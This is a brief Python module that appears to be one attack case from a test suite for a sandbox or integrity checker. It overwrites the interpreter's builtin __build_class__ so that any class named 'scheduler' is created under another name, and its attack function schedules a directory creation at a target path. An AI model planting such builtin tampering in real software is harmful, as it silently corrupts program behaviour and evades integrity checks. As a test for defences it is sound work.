"""A class statement of the library's makes a class of another name."""
CATEGORY = "tampering"
REACH = "write"

import builtins
import os

from . import payload

genuine = builtins.__build_class__


def build(body, name, *bases, **keywords):
    if name == "scheduler":
        name = "other"
    return genuine(body, name, *bases, **keywords)


vars(builtins)["__build_class__"] = build


def attack(scheduler):
    scheduler.enter(0, 1, os.mkdir, (payload.TARGET,))
